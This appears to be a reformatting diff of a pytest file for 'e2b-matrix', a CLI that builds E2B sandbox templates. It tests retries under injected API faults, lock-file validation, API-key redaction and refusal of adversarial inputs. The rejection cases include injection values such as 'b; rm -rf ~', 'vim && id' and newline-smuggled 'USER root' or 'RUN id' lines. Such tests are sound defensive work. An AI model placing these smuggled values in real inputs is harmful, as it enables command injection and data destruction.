@@ -13,6 +13,7 @@ Every part prints its figures (run with ``pytest -s`` to see them).
 
 from __future__ import annotations
 
+import itertools
 import json
 import os
 import signal
@@ -27,12 +28,16 @@ from pathlib import Path
 import pytest
 
 from conftest import cli_runner, sigint_default, snapshot, wait_for, write
-from e2b_matrix.emulator import E2BEmulator
 from e2b_matrix.cli import cli
+from e2b_matrix.emulator import E2BEmulator
 from e2b_matrix.lock import TemplateLock
 
-ALIASES = {"full": "nexus-sandbox-full", "latest": "nexus-sandbox-latest", "minimal": "nexus-sandbox-minimal",
-           "pinned": "nexus-sandbox-pinned"}
+ALIASES = {
+    "full": "nexus-sandbox-full",
+    "latest": "nexus-sandbox-latest",
+    "minimal": "nexus-sandbox-minimal",
+    "pinned": "nexus-sandbox-pinned",
+}
 ALL = set(ALIASES)
 
 
@@ -102,25 +107,58 @@ RETRY_AFTER = 1  # seconds; E2B sends whole seconds
 # id -> (injections, extra env, extra CLI args, expected status per variant, exit code)
 FAULTS = {
     # 4 answers of 429: one more than the SDK's own retries, so our policy waits too
-    "429-retry-after": ([("request_build", dict(status=429, count=4, retry_after=RETRY_AFTER))],
-                        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "2"}, ["--jobs", "1"], dict.fromkeys(ALL, "built"), 0),
+    "429-retry-after": (
+        [("request_build", {"status": 429, "count": 4, "retry_after": RETRY_AFTER})],
+        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "2"},
+        ["--jobs", "1"],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
     "429-retry-after-above-max-delay": (
-        [("request_build", dict(status=429, count=4, retry_after=RETRY_AFTER))],
-        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "0.2"}, ["--jobs", "1"], dict.fromkeys(ALL, "built"), 0),
-    "500-burst": ([("request_build", dict(status=500, count=3)), ("status", dict(status=500, count=3))],
-                  {}, [], dict.fromkeys(ALL, "built"), 0),
-    "502-burst": ([("request_build", dict(status=502, count=6)), ("status", dict(status=502, count=6))],
-                  {}, [], dict.fromkeys(ALL, "built"), 0),
-    "503-burst": ([("request_build", dict(status=503, count=6)), ("status", dict(status=503, count=6))],
-                  {}, [], dict.fromkeys(ALL, "built"), 0),
+        [("request_build", {"status": 429, "count": 4, "retry_after": RETRY_AFTER})],
+        {"E2B_MATRIX_RETRY_MAX_DELAY_S": "0.2"},
+        ["--jobs", "1"],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
+    "500-burst": (
+        [("request_build", {"status": 500, "count": 3}), ("status", {"status": 500, "count": 3})],
+        {},
+        [],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
+    "502-burst": (
+        [("request_build", {"status": 502, "count": 6}), ("status", {"status": 502, "count": 6})],
+        {},
+        [],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
+    "503-burst": (
+        [("request_build", {"status": 503, "count": 6}), ("status", {"status": 503, "count": 6})],
+        {},
+        [],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
     # --jobs 1 builds full first, so full meets the whole burst: 2 attempts x the SDK's requests
-    "burst-beyond-budget": ([("request_build", dict(status=503, count=2 * sdk_requests_per_call()))],
-                            {"E2B_MATRIX_RETRY_ATTEMPTS": "2"}, ["--jobs", "1"],
-                            {"full": "failed", "latest": "built", "minimal": "built", "pinned": "built"}, 1),
-    "reset-request-build": ([("request_build", dict(reset=True, count=3))], {}, [], dict.fromkeys(ALL, "built"), 0),
-    "reset-status": ([("status", dict(reset=True, count=3))], {}, [], dict.fromkeys(ALL, "built"), 0),
-    "slow-responses": ([("request_build", dict(delay=SLOW, count=4)), ("status", dict(delay=SLOW, count=4))],
-                       {}, [], dict.fromkeys(ALL, "built"), 0),
+    "burst-beyond-budget": (
+        [("request_build", {"status": 503, "count": 2 * sdk_requests_per_call()})],
+        {"E2B_MATRIX_RETRY_ATTEMPTS": "2"},
+        ["--jobs", "1"],
+        {"full": "failed", "latest": "built", "minimal": "built", "pinned": "built"},
+        1,
+    ),
+    "reset-request-build": ([("request_build", {"reset": True, "count": 3})], {}, [], dict.fromkeys(ALL, "built"), 0),
+    "reset-status": ([("status", {"reset": True, "count": 3})], {}, [], dict.fromkeys(ALL, "built"), 0),
+    "slow-responses": (
+        [("request_build", {"delay": SLOW, "count": 4}), ("status", {"delay": SLOW, "count": 4})],
+        {},
+        [],
+        dict.fromkeys(ALL, "built"),
+        0,
+    ),
 }
 
 FAULT_PARAMS = list(FAULTS)
@@ -145,9 +183,11 @@ def test_fault_matrix(project, emu, monkeypatch, fault):
 
     results = statuses(r)
     attempts = {n: x["attempts"] for n, x in results.items()}
-    print(f"\n[fault {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s requests={emu.request_count} "
-          f"builds={len(emu.builds)} attempts={attempts} "
-          f"injected={ {f'{k[0]}:{k[1]}': v for k, v in injected.items()} }")
+    print(
+        f"\n[fault {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s requests={emu.request_count} "
+        f"builds={len(emu.builds)} attempts={attempts} "
+        f"injected={ {f'{k[0]}:{k[1]}': v for k, v in injected.items()} }"
+    )
     assert r.exit_code == code, r.output
     assert {n: x["status"] for n, x in results.items()} == expected
     assert emu.pending_faults == 0, "every injected fault was met"
@@ -165,9 +205,8 @@ def test_fault_matrix(project, emu, monkeypatch, fault):
         # --jobs 1: one client at a time, so each 429 is followed by its own retry. The SDK
         # retries 3 times as Retry-After says; when it gives up, ours retries with its own
         # backoff (the SDK's public API does not hand the header on: docs/scheduling.md says so).
-        gaps = [later[0] - t for (t, _, status), later in zip(stamps, stamps[1:]) if status == 429]
-        print(f"[fault {fault}] waits after 429 (Retry-After {RETRY_AFTER}s): "
-              + ", ".join(f"{g:.2f}s" for g in gaps))
+        gaps = [later[0] - t for (t, _, status), later in itertools.pairwise(stamps) if status == 429]
+        print(f"[fault {fault}] waits after 429 (Retry-After {RETRY_AFTER}s): " + ", ".join(f"{g:.2f}s" for g in gaps))
         assert len(gaps) == 4
         assert attempts["full"] == 2, "the SDK gave up after its retries; ours retried once more"
         assert min(gaps[:3]) >= RETRY_AFTER, "the SDK retried before the server's Retry-After"
@@ -193,16 +232,17 @@ def test_fault_matrix(project, emu, monkeypatch, fault):
         assert set(attempts.values()) == {1}, "a slow answer is not an error: no retry"
 
 
-
-@pytest.mark.parametrize("fault", [dict(status=500), dict(reset=True)], ids=["status-500", "status-reset"])
+@pytest.mark.parametrize("fault", [{"status": 500}, {"reset": True}], ids=["status-500", "status-reset"])
 def test_a_blip_while_polling_does_not_restart_the_build(project, emu, fault):
     alias = ALIASES["minimal"]
     emu.configure(alias, duration=1.0)
     emu.inject("status", count=1, **fault)
     r, elapsed = invoke(project, "build", "minimal", "--json")
     builds = [b for b in emu.builds if b.name == alias]
-    print(f"\n[fault poll-blip {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s builds of {alias}: "
-          f"{len(builds)} ({sum(b.cancelled for b in builds)} cancelled) attempts={statuses(r)['minimal']['attempts']}")
+    print(
+        f"\n[fault poll-blip {fault}] exit={r.exit_code} elapsed={elapsed:.2f}s builds of {alias}: "
+        f"{len(builds)} ({sum(b.cancelled for b in builds)} cancelled) attempts={statuses(r)['minimal']['attempts']}"
+    )
     assert r.exit_code == 0, r.output
     assert emu.pending_faults == 0
     assert len(builds) == 1 and not builds[0].cancelled, "the poll was retried, not the build"
@@ -222,15 +262,21 @@ def test_fault_build_failing_at_a_step(project, emu):
     r, elapsed = invoke(project, "build-all", "--json")
 
     results = statuses(r)
-    print(f"\n[fault build-fails-at-step] exit={r.exit_code} elapsed={elapsed:.2f}s "
-          f"statuses={ {n: x['status'] for n, x in results.items()} } "
-          f"pinned error={results['pinned']['error']!r}")
+    print(
+        f"\n[fault build-fails-at-step] exit={r.exit_code} elapsed={elapsed:.2f}s "
+        f"statuses={ {n: x['status'] for n, x in results.items()} } "
+        f"pinned error={results['pinned']['error']!r}"
+    )
     assert r.exit_code == 1, r.output
     assert {n: x["status"] for n, x in results.items()} == {
-        "full": "built", "latest": "fresh", "minimal": "fresh", "pinned": "failed"}
+        "full": "built",
+        "latest": "fresh",
+        "minimal": "fresh",
+        "pinned": "failed",
+    }
     assert results["pinned"]["attempts"] == 1
     assert "apt-get exploded" in results["pinned"]["error"] and "step 3" in results["pinned"]["error"]
-    new = [b for b in emu.builds[builds_before:]]
+    new = list(emu.builds[builds_before:])
     assert sorted(b.name for b in new) == [ALIASES["full"], ALIASES["pinned"]], "pinned submitted once, not retried"
     after = TemplateLock.load(project / "templates.lock")
     assert after.entry("pinned") == before.entry("pinned")
@@ -252,8 +298,12 @@ def test_fault_cancelled_by_a_newer_build_of_the_same_alias(project, emu):
     problems: list[str] = []
 
     def api(path: str, body: dict) -> dict:
-        req = urllib.request.Request(f"{emu.url}{path}", method="POST", data=json.dumps(body).encode(),
-                                     headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"})
+        req = urllib.request.Request(
+            f"{emu.url}{path}",
+            method="POST",
+            data=json.dumps(body).encode(),
+            headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"},
+        )
         with urllib.request.urlopen(req, timeout=5) as resp:
             text = resp.read()
         return json.loads(text) if text else {}
@@ -262,14 +312,19 @@ def test_fault_cancelled_by_a_newer_build_of_the_same_alias(project, emu):
         """Wait for our build of the victim to run, then request and start a build of the same alias
         with the same tags through the API (as a second e2b-matrix on another machine would)."""
         try:
-            ours = wait_for(lambda: [b for b in emu.builds if b.name == victim and b.status == "building"],
-                            timeout=10, what="our build of the victim to start")
+            ours = wait_for(
+                lambda: [b for b in emu.builds if b.name == victim and b.status == "building"],
+                timeout=10,
+                what="our build of the victim to start",
+            )
         except pytest.fail.Exception as failed:  # this thread cannot fail the test: the test reports it
             problems.append(str(failed))
             return
         made = api("/v3/templates", {"name": victim, "tags": ours[0].tags, "cpuCount": 2, "memoryMB": 1024})
-        api(f"/v2/templates/{made['templateID']}/builds/{made['buildID']}",
-            {"fromTemplate": "code-interpreter-v1", "steps": []})
+        api(
+            f"/v2/templates/{made['templateID']}/builds/{made['buildID']}",
+            {"fromTemplate": "code-interpreter-v1", "steps": []},
+        )
         intruder.append(made["buildID"])
 
     thread = threading.Thread(target=intrude)  # the CLI must run in the main thread (it sets signal handlers)
@@ -282,11 +337,17 @@ def test_fault_cancelled_by_a_newer_build_of_the_same_alias(project, emu):
 
     results = statuses(r)
     ours = [b for b in emu.builds if b.name == victim and b.build_id != intruder]
-    print(f"\n[fault cancelled-by-newer-build] exit={r.exit_code} elapsed={elapsed:.2f}s "
-          f"statuses={ {n: x['status'] for n, x in results.items()} } latest error={results['latest']['error']!r}")
+    print(
+        f"\n[fault cancelled-by-newer-build] exit={r.exit_code} elapsed={elapsed:.2f}s "
+        f"statuses={ {n: x['status'] for n, x in results.items()} } latest error={results['latest']['error']!r}"
+    )
     assert r.exit_code == 1, r.output
     assert {n: x["status"] for n, x in results.items()} == {
-        "full": "built", "latest": "failed", "minimal": "built", "pinned": "built"}
+        "full": "built",
+        "latest": "failed",
+        "minimal": "built",
+        "pinned": "built",
+    }
     assert len(ours) == 1 and ours[0].cancelled, "ours was cancelled and not resubmitted"
     assert "build was cancelled" in results["latest"]["error"]
     assert results["latest"]["attempts"] == 1
@@ -304,18 +365,28 @@ def test_a_bare_build_of_our_alias_elsewhere_cancels_nothing_and_moves_no_pin(pr
 
     def intrude() -> None:
         try:
-            wait_for(lambda: any(b.name == victim and b.status == "building" for b in emu.builds),
-                     timeout=10, what="our build of the victim to start")
+            wait_for(
+                lambda: any(b.name == victim and b.status == "building" for b in emu.builds),
+                timeout=10,
+                what="our build of the victim to start",
+            )
         except pytest.fail.Exception as failed:  # this thread cannot fail the test: the test reports it
             problems.append(str(failed))
             return
         body = json.dumps({"name": victim, "cpuCount": 2, "memoryMB": 1024}).encode()
-        req = urllib.request.Request(f"{emu.url}/v3/templates", method="POST", data=body,
-                                     headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"})
+        req = urllib.request.Request(
+            f"{emu.url}/v3/templates",
+            method="POST",
+            data=body,
+            headers={"X-API-KEY": emu.api_key, "Content-Type": "application/json"},
+        )
         made = json.loads(urllib.request.urlopen(req, timeout=5).read())
-        req = urllib.request.Request(f"{emu.url}/v2/templates/{made['templateID']}/builds/{made['buildID']}",
-                                     method="POST", headers={"X-API-KEY": emu.api_key},
-                                     data=json.dumps({"fromTemplate": "code-interpreter-v1", "steps": []}).encode())
+        req = urllib.request.Request(
+            f"{emu.url}/v2/templates/{made['templateID']}/builds/{made['buildID']}",
+            method="POST",
+            headers={"X-API-KEY": emu.api_key},
+            data=json.dumps({"fromTemplate": "code-interpreter-v1", "steps": []}).encode(),
+        )
         urllib.request.urlopen(req, timeout=5).read()
         done.set()
 
@@ -330,8 +401,10 @@ def test_a_bare_build_of_our_alias_elsewhere_cancels_nothing_and_moves_no_pin(pr
 
 # --------------------------------------------------------------------------- 2. bad input corpus
 
-ENTRY = ('[templates.nexus-sandbox-latest]\nvariant = "latest"\ntemplate_id = "tpl"\nbuild_id = "b"\n'
-         'fingerprint = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"\nlayers = { base = "1", nexus = "0.9.26" }\nbuilt_at = 2026-11-26T17:00:00Z\n')
+ENTRY = (
+    '[templates.nexus-sandbox-latest]\nvariant = "latest"\ntemplate_id = "tpl"\nbuild_id = "b"\n'
+    'fingerprint = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"\nlayers = { base = "1", nexus = "0.9.26" }\nbuilt_at = 2026-11-26T17:00:00Z\n'
+)
 HEAD = "# Generated by e2b-matrix; do not edit. Regenerate: make build-all\nschema = 1\n\n"
 T = "templates.nexus-sandbox-latest"
 
@@ -370,10 +443,15 @@ LOCK_CASES = [
     ("schema-bool", "schema = true\n", ["schema: expected an integer, got a boolean"]),
     ("templates-not-table", "schema = 1\ntemplates = 1\n", ["templates: expected a table, got an integer"]),
     ("templates-array", "schema = 1\ntemplates = []\n", ["templates: expected a table, got an array"]),
-    ("entry-not-table", "schema = 1\n[templates]\nnexus-sandbox-latest = \"tpl\"\n",
-     [f"{T}: expected a table, got a string"]),
-    *[(f"missing-{k}", entry(**{k: None}), [f"{T}.{k}: missing"])
-      for k in ("variant", "template_id", "build_id", "fingerprint", "layers", "built_at")],
+    (
+        "entry-not-table",
+        'schema = 1\n[templates]\nnexus-sandbox-latest = "tpl"\n',
+        [f"{T}: expected a table, got a string"],
+    ),
+    *[
+        (f"missing-{k}", entry(**{k: None}), [f"{T}.{k}: missing"])
+        for k in ("variant", "template_id", "build_id", "fingerprint", "layers", "built_at")
+    ],
     ("variant-integer", entry(variant="1"), [f"{T}.variant: expected a string, got an integer"]),
     ("template-id-integer", entry(template_id="12"), [f"{T}.template_id: expected a string, got an integer"]),
     ("template-id-empty", entry(template_id='""'), [f"{T}.template_id: must not be empty"]),
@@ -383,15 +461,22 @@ LOCK_CASES = [
     ("template-id-quote", entry(template_id="'tp\"l'"), [f"{T}.template_id: must be one word"]),
     ("build-id-newline", entry(build_id='"b\\r\\n"'), [f"{T}.build_id: must be one word"]),
     ("build-id-semicolon", entry(build_id='"b; rm -rf ~"'), [f"{T}.build_id: must be one word"]),
-    ("history-build-id-tab", HEAD + ENTRY + '[[templates.nexus-sandbox-latest.history]]\nbuild_id = "a\\tb"\n'
-     'fingerprint = "sha256:ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"\nbuilt_at = 2026-11-26T17:00:00Z\n', [f"{T}.history[0].build_id: must be one word"]),
+    (
+        "history-build-id-tab",
+        HEAD + ENTRY + '[[templates.nexus-sandbox-latest.history]]\nbuild_id = "a\\tb"\n'
+        'fingerprint = "sha256:ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"\nbuilt_at = 2026-11-26T17:00:00Z\n',
+        [f"{T}.history[0].build_id: must be one word"],
+    ),
     ("channels-not-table", entry(channels='"stable"'), [f"{T}.channels: expected a table, got a string"]),
     ("build-id-array", entry(build_id='["b"]'), [f"{T}.build_id: expected a string, got an array"]),
     ("fingerprint-bool", entry(fingerprint="false"), [f"{T}.fingerprint: expected a string, got a boolean"]),
     ("domain-integer", entry(domain="443"), [f"{T}.domain: expected a string, got an integer"]),
     ("image-table", entry(image="{ a = 1 }"), [f"{T}.image: expected a string, got a table"]),
-    ("built-at-naive", entry(built_at="2026-11-26T17:00:00"),
-     [f"{T}.built_at:", "got a local date-time (no timezone)"]),
+    (
+        "built-at-naive",
+        entry(built_at="2026-11-26T17:00:00"),
+        [f"{T}.built_at:", "got a local date-time (no timezone)"],
+    ),
     ("built-at-date", entry(built_at="2026-11-26"), [f"{T}.built_at:", "got a date"]),
     ("built-at-time", entry(built_at="17:00:00"), [f"{T}.built_at:", "got a time"]),
     ("built-at-string", entry(built_at='"2026-11-26T17:00:00Z"'), [f"{T}.built_at:", "got a string"]),
@@ -399,10 +484,17 @@ LOCK_CASES = [
     ("layers-array", entry(layers='["base"]'), [f"{T}.layers: expected a table, got an array"]),
     ("layer-version-integer", entry(layers="{ base = 1 }"), [f"{T}.layers.base: expected a string, got an integer"]),
     ("inputs-string", entry(inputs='"x"'), [f"{T}.inputs: expected a table, got a string"]),
-    ("inputs-nested", entry(inputs="{ a = { b = \"c\" } }"), [f"{T}.inputs.a: expected a string, got a table"]),
-    ("second-entry-bad", HEAD + ENTRY + "\n" + ENTRY.replace("latest]", "pinned]")
-     .replace('variant = "latest"', 'variant = "pinned"').replace("17:00:00Z", "17:00:00"),
-     ["templates.nexus-sandbox-pinned.built_at:"]),
+    ("inputs-nested", entry(inputs='{ a = { b = "c" } }'), [f"{T}.inputs.a: expected a string, got a table"]),
+    (
+        "second-entry-bad",
+        HEAD
+        + ENTRY
+        + "\n"
+        + ENTRY.replace("latest]", "pinned]")
+        .replace('variant = "latest"', 'variant = "pinned"')
+        .replace("17:00:00Z", "17:00:00"),
+        ["templates.nexus-sandbox-pinned.built_at:"],
+    ),
 ]
 
 LOCK_COMMANDS = [["lock", "show"], ["lock", "check"], ["plan"], ["resolve", "latest"], ["build-all"]]
@@ -437,8 +529,8 @@ SET_CASES = [
     ("nope.x=1", "--set: unknown layer 'nope'"),
     ("nexus.v=1", "--set: unknown parameter 'nexus.v' (layer nexus takes: version)"),
     ("fuse.x=1", "--set: unknown parameter 'fuse.x' (layer fuse takes: none)"),
-    ("nexus.version=abc", "--set: nexus.version: expected \"latest\" or an exact version"),
-    ("nexus.version=", "--set: nexus.version: expected \"latest\" or an exact version"),
+    ("nexus.version=abc", '--set: nexus.version: expected "latest" or an exact version'),
+    ("nexus.version=", '--set: nexus.version: expected "latest" or an exact version'),
     ("nexus.version=0.10.1", "params.nexus.version: nexus-ai-fs 0.10.1 requires Python >=3.14, but the base's Python"),
     ("nexus.version=9.9.9", "params.nexus.version: nexus-ai-fs 9.9.9 is not a release in the package index"),
     ("base.python=3", "--set: base.python: expected a Python version like \"3.12\", got '3'"),
@@ -469,14 +561,17 @@ def test_bad_input_corpus_size():
 
     here = len(LOCK_CASES) + len(SET_CASES)
     there = len(test_config_errors.CASES)
-    print(f"\n[bad input] lock files: {len(LOCK_CASES)} (x {len(LOCK_COMMANDS)} commands = "
-          f"{len(LOCK_CASES) * len(LOCK_COMMANDS)} runs), --set on build-all: {len(SET_CASES)}, "
-          f"test_config_errors.py: {there}; total cases: {here + there}")
+    print(
+        f"\n[bad input] lock files: {len(LOCK_CASES)} (x {len(LOCK_COMMANDS)} commands = "
+        f"{len(LOCK_CASES) * len(LOCK_COMMANDS)} runs), --set on build-all: {len(SET_CASES)}, "
+        f"test_config_errors.py: {there}; total cases: {here + there}"
+    )
     assert here + there >= 40
     assert len(LOCK_CASES) >= 20
 
 
 # --------------------------------------------------------------------------- 3. the canary key
+
 
 @pytest.mark.parametrize("source", ["env", "e2b-config"])
 def test_canary_key_is_nowhere(project, emu, source):
@@ -486,17 +581,29 @@ def test_canary_key_is_nowhere(project, emu, source):
     emu.configure(ALIASES["pinned"], fail_at_step=1, fail_message=f"boom: bad token {key} in step")
     emu.inject("status", status=500, count=2, body={"code": 500, "message": f"oops {key}"})
     # 4 clients x the SDK's 4 requests: every first submission ends in a 429 that reaches our retry policy
-    emu.inject("request_build", status=429, count=4 * sdk_requests_per_call(), retry_after=0,
-               body={"code": 429, "message": f"slow down {key}"})
+    emu.inject(
+        "request_build",
+        status=429,
+        count=4 * sdk_requests_per_call(),
+        retry_after=0,
+        body={"code": 429, "message": f"slow down {key}"},
+    )
     env = {**os.environ, **emu.env(), "E2B_MATRIX_RETRY_ATTEMPTS": "8"}
     if source == "e2b-config":  # what `e2b auth login` writes
         del env["E2B_API_KEY"]
         write(Path(env["HOME"]) / ".e2b/config.json", json.dumps({"teamApiKey": key, "email": "a@b.c"}))
-    p = subprocess.run([sys.executable, "-m", "e2b_matrix", "-C", str(project), "-vv", "build-all"],
-                       capture_output=True, text=True, env=env, timeout=60)
+    p = subprocess.run(
+        [sys.executable, "-m", "e2b_matrix", "-C", str(project), "-vv", "build-all"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
     files = {str(f.relative_to(project)): f.read_bytes() for f in project.rglob("*") if f.is_file()}
-    print(f"\n[canary, key from {source}] exit={p.returncode} stdout={len(p.stdout)} chars, stderr={len(p.stderr)} chars, "
-          f"files checked={len(files)} ({', '.join(sorted(files))})")
+    print(
+        f"\n[canary, key from {source}] exit={p.returncode} stdout={len(p.stdout)} chars, stderr={len(p.stderr)} chars, "
+        f"files checked={len(files)} ({', '.join(sorted(files))})"
+    )
     assert p.returncode == 1, p.stderr
     # the leaks were offered: the failure, the 500 body and the 429s reached the output, redacted
     out = p.stdout + p.stderr
@@ -513,6 +620,7 @@ def test_canary_key_is_nowhere(project, emu, source):
 
 # --------------------------------------------------------------------------- 4. Ctrl-C and SIGTERM
 
+
 @pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
 def test_interrupt_keeps_finished_builds(project, emu, sig):
     fast = ALIASES["minimal"]
@@ -521,10 +629,16 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
         emu.configure(alias, duration=30)
     lock = project / "templates.lock"
     # --no-share: these variants share steps and would wait for each other (test_share.py covers that)
-    p = subprocess.Popen([sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--no-share"],
-                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ},
-                         preexec_fn=sigint_default)
+    p = subprocess.Popen(
+        [sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--no-share"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ},
+        preexec_fn=sigint_default,
+    )
     try:
+
         def fast_landed() -> bool:
             assert p.poll() is None, p.communicate()
             return lock.exists() and fast in lock_aliases(project)
@@ -533,7 +647,7 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
         assert any(b.status == "building" for b in emu.builds if b.name != fast)
         sent = time.monotonic()
         p.send_signal(sig)
-        out, err = p.communicate(timeout=20)
+        _out, err = p.communicate(timeout=20)
     finally:
         if p.poll() is None:
             p.kill()
@@ -549,6 +663,7 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
 
 
 # --------------------------------------------------------------------------- 5. what an adversarial user tries
+
 
 def assert_refused(project: Path, emu, args, expected: str, env=None, before=None):
     """Exit 2, one line naming the file, key or variable, no traceback, nothing on disk changed, no request."""
@@ -585,11 +700,17 @@ def test_a_key_from_the_e2b_config_is_stripped_too(project, emu, monkeypatch):
     assert r.exit_code == 0, r.output
 
 
-@pytest.mark.parametrize("key", ["e2b_abc def0123456789", "e2b_abc\x01def0123456789", "e2b_abc\ndef0123456789",
-                                 "e2b_abcdéf0123456789"])
+@pytest.mark.parametrize(
+    "key", ["e2b_abc def0123456789", "e2b_abc\x01def0123456789", "e2b_abc\ndef0123456789", "e2b_abcdéf0123456789"]
+)
 def test_a_key_with_something_odd_inside_is_refused_naming_where_it_came_from(project, emu, key):
-    line = assert_refused(project, emu, ["build", "minimal"], "E2B_API_KEY: the key has a space, control or "
-                          "non-ASCII character inside it (not shown)", env={"E2B_API_KEY": key})
+    line = assert_refused(
+        project,
+        emu,
+        ["build", "minimal"],
+        "E2B_API_KEY: the key has a space, control or non-ASCII character inside it (not shown)",
+        env={"E2B_API_KEY": key},
+    )
     assert "abc" not in line and "0123456789" not in line
 
 
@@ -605,54 +726,114 @@ def test_a_key_in_the_config_with_something_odd_inside_names_the_file(project, e
 
 @pytest.mark.parametrize("key", ["", "   ", "\r\n", "\t"])
 def test_a_blank_key_is_no_key(project, emu, key):
-    assert_refused(project, emu, ["build-all"], "no E2B API key: set E2B_API_KEY, or run `e2b auth login`",
-                   env={"E2B_API_KEY": key})
+    assert_refused(
+        project,
+        emu,
+        ["build-all"],
+        "no E2B API key: set E2B_API_KEY, or run `e2b auth login`",
+        env={"E2B_API_KEY": key},
+    )
     assert not (project / "logs").exists()
 
 
 CONTROL = [
-    ("alias-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-sandbox-x\\n"\nlayers = ["base"]\n'},
-     "variants/x.toml: variant.alias: contains a control character (\\n)"),
-    ("name-cr", {"variants/x.toml": '[variant]\nname = "x\\r"\nalias = "nexus-x"\nlayers = ["base"]\n'},
-     "variants/x.toml: variant.name: contains a control character (\\r)"),
-    ("tag-tab", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["a\\tb"]\n'},
-     "variants/x.toml: variant.tags[0]: contains a control character (\\t)"),
-    ("tag-default", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
-                                        'tags = ["default"]\n'},
-     "variants/x.toml: variant.tags: 'default' is the channel a bare alias means"),
-    ("tag-uuid", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
-                                     'tags = ["0f1c2d3e-0000-4000-8000-000000000001"]\n'},
-     "variants/x.toml: variant.tags: '0f1c2d3e-0000-4000-8000-000000000001' looks like a UUID"),
-    ("start-cmd-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
-                                              '[params.base]\nstart_cmd = "sleep 1\\nUSER root"\n'},
-     "variants/x.toml: params.base.start_cmd: contains a control character (\\n)"),
-    ("image-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
-                                          '[params.base]\nimage = "debian\\nRUN id"\n'},
-     "variants/x.toml: params.base.image: contains a control character (\\n)"),
-    ("package-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base", "extra-tools"]\n'
-                                            '[params.extra-tools]\npackages = ["git\\n"]\n'},
-     "variants/x.toml: params.extra-tools.packages[0]: contains a control character (\\n)"),
-    ("key-with-escape", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
-                                            '[params."base\\u001b"]\n'},
-     "variants/x.toml: params: a key contains a control character (\\x1b)"),
-    ("layer-name-newline", {"layers/a.toml": '[layer]\nname = "a\\n"\nversion = "1"\n'},
-     "layers/a.toml: layer.name: contains a control character (\\n)"),
-    ("layer-version-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1\\nRUN id"\n'},
-     "layers/a.toml: layer.version: contains a control character (\\n)"),
-    ("layer-workdir-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\n'
-                                                'workdir = "/tmp\\nUSER root"\n'},
-     "layers/a.toml: steps[0].workdir: contains a control character (\\n)"),
-    ("layer-env-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\n'
-                                            'env = { A = "x\\nUSER root" }\n'},
-     "layers/a.toml: steps[0].env.A: contains a control character (\\n)"),
-    ("layer-env-name", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { "A B" = "x" }\n'},
-     "layers/a.toml: steps[0].env.\"A B\": 'A B' is not an environment variable name"),
-    ("layer-user-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nuser = "root\\n"\n'},
-     "layers/a.toml: steps[0].user: contains a control character (\\n)"),
-    ("layer-apt-bad", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\napt = ["vim && id"]\n'},
-     "layers/a.toml: steps[0].apt: 'vim && id' is not a package name"),
-    ("layer-run-nul", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nrun = "echo\\u0000"\n'},
-     "layers/a.toml: steps[0].run: contains a control character (\\x00)"),
+    (
+        "alias-newline",
+        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-sandbox-x\\n"\nlayers = ["base"]\n'},
+        "variants/x.toml: variant.alias: contains a control character (\\n)",
+    ),
+    (
+        "name-cr",
+        {"variants/x.toml": '[variant]\nname = "x\\r"\nalias = "nexus-x"\nlayers = ["base"]\n'},
+        "variants/x.toml: variant.name: contains a control character (\\r)",
+    ),
+    (
+        "tag-tab",
+        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["a\\tb"]\n'},
+        "variants/x.toml: variant.tags[0]: contains a control character (\\t)",
+    ),
+    (
+        "tag-default",
+        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["default"]\n'},
+        "variants/x.toml: variant.tags: 'default' is the channel a bare alias means",
+    ),
+    (
